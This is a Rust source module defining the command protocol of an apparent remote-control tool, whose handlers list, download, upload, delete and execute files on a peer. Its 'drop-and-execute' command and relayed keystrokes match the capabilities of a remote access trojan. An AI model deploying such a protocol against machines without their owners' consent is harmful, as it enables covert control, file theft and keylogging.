//! The command catalog
//!
//! Commands (list, download, upload, execute, delete, create-directory,
//! drop-and-execute) have a single behavior: the peer that receives one
//! performs it and answers with reply packets. Reply packets (directory
//! entry, file contents, ack) and keystrokes are passive; receiving one only
//! notifies the listener. System info and stat are ping-pong exchanges.

use async_trait::async_trait;
use serde::Serialize;

use super::codec::{ProtocolResult, WireReader, WireWriter};
use super::connection::ExecuteContext;
use super::error::ProtocolError;
use super::packet::{Exchange, Packet, PacketKind, WireFormat};
use super::types::*;
use crate::events::PeerEvent;
use crate::logging::*;

/// System info: request carries nothing, data carries the responder identity
pub type SystemInfoPacket = Exchange<(), SystemInfo>;

/// Stat: request carries the path, data carries the metadata or the failure
pub type StatPacket = Exchange<RemotePath, StatReport>;

pub(crate) async fn execute_system_info(packet: SystemInfoPacket, ctx: &mut ExecuteContext<'_>) {
	let identity = ctx.services().identity.clone();
	match packet.answer(|()| identity.system_info()) {
		Ok(reply) => ctx.reply(Packet::SystemInfo(reply)),
		Err(data) => {
			if let Some(info) = data.into_data() {
				ctx.notify(PeerEvent::SystemInfo(info));
			}
		}
	}
}

pub(crate) async fn execute_stat(packet: StatPacket, ctx: &mut ExecuteContext<'_>) {
	match packet {
		Exchange::Request(path) => {
			let result = match ctx.files() {
				Ok(files) => files.stat(&path).await,
				Err(failure) => Err(failure),
			};
			if let Err(failure) = &result {
				warn!("stat {} failed: {}", path, failure);
			}
			ctx.reply(Packet::Stat(Exchange::Data(StatReport { path, result })));
		}
		Exchange::Data(report) => ctx.notify(PeerEvent::Stat(report)),
	}
}

/// Answer to a stat request
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct StatReport {
	pub path: RemotePath,
	pub result: Result<FileInfo, ActionFailure>,
}

#[async_trait]
impl WireFormat for StatReport {
	async fn write_to(&self, w: &mut WireWriter) -> ProtocolResult<()> {
		self.path.write_to(w).await?;
		match &self.result {
			Ok(info) => {
				ActionStatus::Ok.write_to(w).await?;
				info.write_to(w).await
			}
			Err(failure) => ActionStatus::Failed(failure.clone()).write_to(w).await,
		}
	}

	async fn read_from(r: &mut WireReader) -> ProtocolResult<Self> {
		let path = RemotePath::read_from(r).await?;
		let result = match ActionStatus::read_from(r).await? {
			ActionStatus::Ok => Ok(FileInfo::read_from(r).await?),
			ActionStatus::Failed(failure) => Err(failure),
		};
		Ok(StatReport { path, result })
	}
}

/// A key event reported by the peer's keystroke source
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize)]
pub struct Keystroke {
	pub key_code: i32,
}

impl Keystroke {
	/// Key code of a keystroke that carries no key
	pub const UNDEFINED: i32 = 0;

	pub fn new(key_code: i32) -> Self {
		Self { key_code }
	}

	pub(crate) async fn execute(self, ctx: &mut ExecuteContext<'_>) {
		ctx.notify(PeerEvent::Keystroke { key_code: self.key_code });
	}
}

impl Default for Keystroke {
	fn default() -> Self {
		Self::new(Self::UNDEFINED)
	}
}

#[async_trait]
impl WireFormat for Keystroke {
	async fn write_to(&self, w: &mut WireWriter) -> ProtocolResult<()> {
		w.write_int(self.key_code).await
	}

	async fn read_from(r: &mut WireReader) -> ProtocolResult<Self> {
		Ok(Keystroke { key_code: r.read_int().await? })
	}
}

// Packets whose whole body is one remote path
macro_rules! path_packet {
	($name:ident) => {
		impl $name {
			pub fn new(path: RemotePath) -> Self {
				Self { path }
			}
		}

		#[async_trait]
		impl WireFormat for $name {
			async fn write_to(&self, w: &mut WireWriter) -> ProtocolResult<()> {
				self.path.write_to(w).await
			}

			async fn read_from(r: &mut WireReader) -> ProtocolResult<Self> {
				Ok($name { path: RemotePath::read_from(r).await? })
			}
		}
	};
}

/// Enumerate one level of a directory
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ListDirectory {
	pub path: RemotePath,
}

path_packet!(ListDirectory);

impl ListDirectory {
	pub(crate) async fn execute(self, ctx: &mut ExecuteContext<'_>) {
		let listing = match ctx.files() {
			Ok(files) => files.list(&self.path).await,
			Err(failure) => Err(failure),
		};
		let status = match listing {
			Ok(names) => {
				debug!("listing {}: {} entries", self.path, names.len());
				for name in names {
					ctx.reply(Packet::DirectoryEntry(DirectoryEntry::new(self.path.join(name))));
				}
				ActionStatus::Ok
			}
			Err(failure) => ActionStatus::Failed(failure),
		};
		ctx.acknowledge(PacketKind::ListDirectory, self.path, status);
	}
}

/// One child found by a directory listing
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct DirectoryEntry {
	pub path: RemotePath,
}

path_packet!(DirectoryEntry);

impl DirectoryEntry {
	pub(crate) async fn execute(self, ctx: &mut ExecuteContext<'_>) {
		ctx.notify(PeerEvent::DirectoryEntry { path: self.path });
	}
}

/// Fetch a file's contents
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Download {
	pub path: RemotePath,
}

path_packet!(Download);

impl Download {
	pub(crate) async fn execute(self, ctx: &mut ExecuteContext<'_>) {
		let max = ctx.limits().max_payload_bytes;
		let read = match ctx.files() {
			Ok(files) => files.read(&self.path, max).await,
			Err(failure) => Err(failure),
		};
		match read {
			Ok(data) => {
				debug!("download {}: {} bytes", self.path, data.len());
				ctx.reply(Packet::FileContents(FileContents { path: self.path, data }));
			}
			Err(failure) => {
				ctx.acknowledge(PacketKind::Download, self.path, ActionStatus::Failed(failure))
			}
		}
	}
}

/// Contents of a downloaded file
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct FileContents {
	pub path: RemotePath,
	pub data: Vec<u8>,
}

impl FileContents {
	pub(crate) async fn execute(self, ctx: &mut ExecuteContext<'_>) {
		ctx.notify(PeerEvent::FileContents { path: self.path, data: self.data });
	}
}

#[async_trait]
impl WireFormat for FileContents {
	async fn write_to(&self, w: &mut WireWriter) -> ProtocolResult<()> {
		self.path.write_to(w).await?;
		w.write_bytes(&self.data).await
	}

	async fn read_from(r: &mut WireReader) -> ProtocolResult<Self> {
		let path = RemotePath::read_from(r).await?;
		let data = r.read_bytes().await?;
		Ok(FileContents { path, data })
	}
}

/// Write bytes to a path on the peer
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Upload {
	pub path: RemotePath,
	pub data: Vec<u8>,
}

impl Upload {
	pub fn new(path: RemotePath, data: Vec<u8>) -> Self {
		Self { path, data }
	}

	pub(crate) async fn execute(self, ctx: &mut ExecuteContext<'_>) {
		let status = match ctx.files() {
			Ok(files) => files.write(&self.path, &self.data).await.into(),
			Err(failure) => ActionStatus::Failed(failure),
		};
		ctx.acknowledge(PacketKind::Upload, self.path, status);
	}
}

#[async_trait]
impl WireFormat for Upload {
	async fn write_to(&self, w: &mut WireWriter) -> ProtocolResult<()> {
		self.path.write_to(w).await?;
		w.write_bytes(&self.data).await
	}

	async fn read_from(r: &mut WireReader) -> ProtocolResult<Self> {
		let path = RemotePath::read_from(r).await?;
		let data = r.read_bytes().await?;
		Ok(Upload { path, data })
	}
}

/// Launch a file on the peer as a process
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ExecuteFile {
	pub path: RemotePath,
}

path_packet!(ExecuteFile);

impl ExecuteFile {
	pub(crate) async fn execute(self, ctx: &mut ExecuteContext<'_>) {
		let status = match ctx.launcher() {
			Ok(files) => files.launch(&self.path).await.map(|pid| {
				info!("launched {} (pid {})", self.path, pid);
			}),
			Err(failure) => Err(failure),
		};
		ctx.acknowledge(PacketKind::Execute, self.path, status.into());
	}
}

/// Remove a file or a whole subtree
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Delete {
	pub path: RemotePath,
}

path_packet!(Delete);

impl Delete {
	pub(crate) async fn execute(self, ctx: &mut ExecuteContext<'_>) {
		let status = match ctx.files() {
			Ok(files) => files.delete(&self.path).await.into(),
			Err(failure) => ActionStatus::Failed(failure),
		};
		ctx.acknowledge(PacketKind::Delete, self.path, status);
	}
}

/// Create a directory, including missing parents
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct CreateDirectory {
	pub path: RemotePath,
}

path_packet!(CreateDirectory);

impl CreateDirectory {
	pub(crate) async fn execute(self, ctx: &mut ExecuteContext<'_>) {
		let status = match ctx.files() {
			Ok(files) => files.create_dir(&self.path).await.into(),
			Err(failure) => ActionStatus::Failed(failure),
		};
		ctx.acknowledge(PacketKind::CreateDirectory, self.path, status);
	}
}

/// Write bytes to a path, then launch it
///
/// Body order is data first, then path.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct DropAndExecute {
	pub data: Vec<u8>,
	pub path: RemotePath,
}

impl DropAndExecute {
	pub fn new(path: RemotePath, data: Vec<u8>) -> Self {
		Self { data, path }
	}

	pub(crate) async fn execute(self, ctx: &mut ExecuteContext<'_>) {
		// Launch permission is checked before anything touches the disk
		let status = match ctx.launcher() {
			Ok(files) => match files.write(&self.path, &self.data).await {
				Ok(()) => files.launch(&self.path).await.map(|pid| {
					info!("dropped and launched {} (pid {})", self.path, pid);
				}),
				Err(failure) => Err(failure),
			},
			Err(failure) => Err(failure),
		};
		ctx.acknowledge(PacketKind::DropAndExecute, self.path, status.into());
	}
}

#[async_trait]
impl WireFormat for DropAndExecute {
	async fn write_to(&self, w: &mut WireWriter) -> ProtocolResult<()> {
		w.write_bytes(&self.data).await?;
		self.path.write_to(w).await
	}

	async fn read_from(r: &mut WireReader) -> ProtocolResult<Self> {
		let data = r.read_bytes().await?;
		let path = RemotePath::read_from(r).await?;
		Ok(DropAndExecute { data, path })
	}
}

/// Outcome of a command, sent back by the peer that ran it
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct Ack {
	pub command: PacketKind,
	pub path: RemotePath,
	pub status: ActionStatus,
}

impl Ack {
	pub fn new(command: PacketKind, path: RemotePath, status: ActionStatus) -> Self {
		Self { command, path, status }
	}

	pub(crate) async fn execute(self, ctx: &mut ExecuteContext<'_>) {
		ctx.notify(PeerEvent::Ack(self));
	}
}

#[async_trait]
impl WireFormat for Ack {
	async fn write_to(&self, w: &mut WireWriter) -> ProtocolResult<()> {
		w.write_u8(self.command.tag()).await?;
		self.path.write_to(w).await?;
		self.status.write_to(w).await
	}

	async fn read_from(r: &mut WireReader) -> ProtocolResult<Self> {
		let tag = r.read_u8().await?;
		let command = PacketKind::from_tag(tag).ok_or_else(|| {
			ProtocolError::Malformed(format!("ack for unknown command tag {}", tag))
		})?;
		let path = RemotePath::read_from(r).await?;
		let status = ActionStatus::read_from(r).await?;
		Ok(Ack { command, path, status })
	}
}

// vim: ts=4
